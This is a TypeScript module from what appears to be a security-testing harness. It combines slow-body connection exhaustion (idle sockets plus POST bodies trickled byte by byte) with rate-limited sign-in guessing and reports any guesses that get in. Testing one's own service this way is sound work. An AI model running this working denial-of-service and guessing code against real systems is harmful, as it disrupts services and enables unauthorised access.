import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { guesser } from './guesses.ts';
import { lines } from './raw-request.ts';
import type { Attack, Target } from './target.ts';

const connectAtOnce = 100;

const betweenConnectsMs = 100;

async function openSockets({ host, port }: Target, count: number): Promise<Socket[]> {
  const sockets = Array.from({ length: count }, () => {
    const socket = connect(port, host);
    socket.on('error', () => {});
    // Reads and discards data, so that a close is noticed.
    return socket.resume();
  });
  await Promise.all(
    sockets.map((socket) => new Promise((resolve) => socket.once('connect', resolve).once('close', resolve))),
  );
  return sockets;
}

/** Opens a few at a time, because the attack is to keep them open. */
async function openGradually(
  target: Target,
  count: number,
  begin: (socket: Socket) => void = () => {},
): Promise<Socket[]> {
  const sockets: Socket[] = [];
  while (sockets.length < count) {
    const next = await openSockets(target, Math.min(connectAtOnce, count - sockets.length));
    next.forEach(begin);
    sockets.push(...next);
    await sleep(betweenConnectsMs);
  }
  return sockets;
}

const firstBytes = 16 * 1024;

/** Starts a body with a key, so that the server reads it; it continues byte by byte. */
function startBody(socket: Socket, { apiKey, projectHash }: Target): void {
  socket.write(
    lines(
      `POST /api/gateway/execute/${projectHash}/api HTTP/1.1`,
      'Host: localhost',
      `X-API-KEY: ${apiKey}`,
      'Content-Type: application/json',
      'Content-Length: 1000000',
    ),
  );
  socket.write(Buffer.alloc(firstBytes, ' '));
}

function trickle(sockets: readonly Socket[]): void {
  for (const socket of sockets) if (socket.writable) socket.write(' ');
}

export const together: Attack = {
  name: 'together',
  async run(target, { together: { idleConnections, slowBodies, guessesPerSecond, seconds } }) {
    const idle = await openGradually(target, idleConnections);
    const slow = await openGradually(target, slowBodies, (socket) => startBody(socket, target));
    const { guess } = await guesser(target);
    const verdicts: Promise<unknown>[] = [];
    for (let n = 0; n < guessesPerSecond * seconds; n += 1) {
      verdicts.push(guess(`person${n}@attack.example`, 'a guess').catch((error: unknown) => String(error)));
      if (n % guessesPerSecond === 0) trickle(slow);
      await sleep(1000 / guessesPerSecond);
    }
    const answers = await Promise.all(verdicts);
    for (const socket of [...idle, ...slow]) socket.destroy();
    const letIn = answers.filter((verdict) => verdict === 'let in').length;
    return {
      requests: idleConnections + slowBodies + answers.length,
      findings: letIn > 0 ? [`${letIn} guesses for unknown people were let in`] : [],
    };
  },
};
